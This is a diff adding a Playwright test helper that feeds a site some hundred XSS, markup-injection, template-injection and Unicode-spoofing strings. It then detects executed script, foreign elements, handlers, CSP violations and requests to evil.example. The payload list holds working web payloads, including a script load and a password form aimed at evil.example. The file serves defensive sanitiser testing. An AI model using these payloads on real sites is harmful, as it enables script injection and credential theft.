@@ -1,0 +1,186 @@
+// Texts that want to be more than texts, and a watch that says whether one of them was: something ran,
+// something foreign stands in a page, something was asked of a stranger, or the policy refused it.
+import type { Page } from 'playwright-core';
+
+/** Each calls `hurt()` or fetches from `evil.example` where it gets the chance. */
+export const hostileTexts: readonly string[] = [
+  // markup that runs
+  '<script>hurt()</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '"><script>hurt()</script>',
+  "'-hurt()-'",
+  '</textarea><script>hurt()</script>',
+  '</title></style><script>hurt()</script>',
+  '<!--><script>hurt()</script>-->',
+  '<![CDATA[<script>hurt()</script>]]>',
+  '<scr<script>ipt>hurt()</scr</script>ipt>',
+  '\u003cscript\u003ehurt()\u003c/script\u003e',
+  '&lt;script&gt;hurt()&lt;/script&gt;',
+  '＜script＞hurt()＜/script＞',
+  '%3Cscript%3Ehurt()%3C/script%3E',
+  // handlers
+  '<img src=x onerror=hurt()>',
+  '<img src=x onerror=&#104;urt()>',
+  '<img/src="x"/onerror="hurt()"//',
+  '" onmouseover="hurt()" autofocus onfocus="hurt()" x="',
+  "' onfocus=hurt() autofocus tabindex=1 '",
+  '<body onload=hurt()>',
+  '<details open ontoggle=hurt()>',
+  '<video><source onerror=hurt()>',
+  '<input autofocus onfocus=hurt()>',
+  '<marquee onstart=hurt()>',
+  '<x onclick=hurt() contenteditable autofocus onfocus=hurt()>',
+  '<div style="animation:x" onanimationstart=hurt()>',
+  // addresses
+  'javascript:hurt()',
+  'JaVaScRiPt:hurt()',
+  'java\tscript:hurt()',
+  'java\nscript:hurt()',
+  '\u0001javascript:hurt()',
+  ' javascript:hurt()',
+  'javascript&colon;hurt()',
+  '&#106;avascript:hurt()',
+  'javascript://https://shop.example/%0ahurt()',
+  'data:text/html,<script>hurt()</script>',
+  'data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4=',
+  'vbscript:hurt()',
+  'https://shop.example/"onclick="hurt()',
+  'https://shop.example/<script>hurt()</script>',
+  '//evil.example/x',
+  '\\\\evil.example\\x',
+  // Markdown
+  '[click](javascript:hurt())',
+  '[click](JAVASCRIPT:hurt%28%29)',
+  '[click](java\nscript:hurt())',
+  '[click](data:text/html,hurt)',
+  '[click](https://shop.example "onclick=hurt()")',
+  '[<img src=x onerror=hurt()>](https://shop.example)',
+  '![x](https://evil.example/pixel.gif)',
+  '**<img src=x onerror=hurt()>** `<script>hurt()</script>`',
+  '- <script>hurt()</script>\n- [a](javascript:hurt())',
+  '<javascript:hurt()>',
+  // SVG, MathML, mutation
+  '<svg onload=hurt()>',
+  '<svg><script>hurt()</script></svg>',
+  '<svg><animate onbegin=hurt() attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:hurt()"><text>x</text></a></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.hurt()</script>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hurt()>',
+  '<noscript><p title="</noscript><img src=x onerror=hurt()>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hurt()>',
+  '<template><script>hurt()</script></template>',
+  '<listing>&lt;img src=x onerror=hurt()&gt;</listing>',
+  // frames, forms, others
+  '<iframe src="javascript:hurt()"></iframe>',
+  '<iframe srcdoc="<script>parent.hurt()</script>">',
+  '<object data="javascript:hurt()">',
+  '<embed src="//evil.example/x.swf">',
+  '<base href="//evil.example/">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example/">',
+  '<form action="//evil.example/"><input name=password><button>Sign in</button></form>',
+  // CSS
+  '<style>@import url(//evil.example/x.css);*{display:none}</style>',
+  '<p style="background:url(//evil.example/x.gif);position:fixed;inset:0">',
+  'red;background:url(//evil.example/x.gif)',
+  '</style><style>body{background:url(//evil.example/x.gif)}',
+  'expression(hurt())',
+  // templates and prototypes
+  '${hurt()} {{constructor.constructor("hurt()")()}} <%= hurt() %> #{hurt()}',
+  '{{7*7}} {name} {n} $& $1 $`',
+  '__proto__',
+  'constructor',
+  'toString',
+  // Unicode
+  '\u202egpj.exe\u202c paypal.example',
+  '\u2066\u2067hidden\u2069 order',
+  'a\u200bb\u200cc\ufeffd',
+  'https://аррӏе.example/login',
+  'https://shop.example@evil.example/',
+  'https://shop.example\u2024evil.example/',
+  '[https://shop.example](https://evil.example/)',
+  'n\u0000ull',
+  'half \ud83d and \udc00 other half',
+  'Z\u0337\u0321\u031b\u0335\u0322a\u0336l\u0334g\u0338o\u0336'.repeat(8),
+  '🏴󠁧󠁢󠁥󠁮󠁧󠁿👩‍👩‍👧‍👦🇩🇪',
+  'مرحبا <b>hello</b> שלום',
+  '\u2028\u2029\u0085lines',
+  'W'.repeat(400),
+  '((((((((((((((((((((((((((((((((((((((((',
+];
+
+/** Put into a page before anything of it runs. */
+export function watchForHarm(): void {
+  const harm: string[] = [];
+  Object.assign(window, { harm, hurt: () => void harm.push('a text ran') });
+  for (const name of ['alert', 'confirm', 'prompt'] as const)
+    Object.assign(window, { [name]: () => void harm.push(`${name} was called`) });
+  document.addEventListener('securitypolicyviolation', (event) => {
+    harm.push(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
+  });
+}
+
+/** What is wrong in a page now, in words; nothing where all is well. */
+export async function harmIn(page: Page): Promise<readonly string[]> {
+  return page.evaluate(() => {
+    const found: string[] = [...(Reflect.get(window, 'harm') ?? ['nobody watched'])];
+    const foreign =
+      'iframe,frame,object,embed,base,marquee,math,foreignObject,listing,xmp,plaintext,noscript,template,video,audio,source,details,animate,meta[http-equiv],script:not([src^="/assets/"],[data-own])';
+    const own = 'svg[aria-hidden=true],svg[role=img],svg[role=presentation]';
+    const roots: (Document | ShadowRoot)[] = [document];
+    for (let at = 0; at < roots.length; at += 1)
+      for (const element of roots[at]?.querySelectorAll('*') ?? []) {
+        if (element.shadowRoot) roots.push(element.shadowRoot);
+        const told = element.outerHTML.slice(0, 160);
+        if (element.matches(foreign) && !element.closest('[data-own]'))
+          found.push(`foreign: ${told}`);
+        if (
+          element.localName === 'svg' &&
+          !element.matches(own) &&
+          element.querySelector('script,a,style')
+        )
+          found.push(`foreign: ${told}`);
+        for (const { name, value } of element.attributes) {
+          if (name.startsWith('on') || name === 'srcdoc') found.push(`handler ${name}: ${told}`);
+          const leads = [
+            'href',
+            'src',
+            'action',
+            'formaction',
+            'xlink:href',
+            'data',
+            'poster',
+          ].includes(name);
+          if (
+            leads &&
+            /^[\s\u0000-\u001f]*(javascript|vbscript|data(?!:image\/svg\+xml|:image\/png)):/i.test(
+              value,
+            )
+          )
+            found.push(`address ${name}: ${told}`);
+          if (name === 'style' && /url\(|expression|@import/i.test(value))
+            found.push(`style: ${told}`);
+        }
+        if (
+          element instanceof HTMLAnchorElement &&
+          element.target === '_blank' &&
+          !element.relList.contains('noopener')
+        )
+          found.push(`link without noopener: ${told}`);
+      }
+    return found;
+  });
+}
+
+/** Notes what a page asks of hosts that only hostile texts name. */
+export function strangersAsked(page: Page): readonly string[] {
+  const asked: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) asked.push(request.url());
+  });
+  page.on('dialog', (dialog) => {
+    asked.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  return asked;
+}
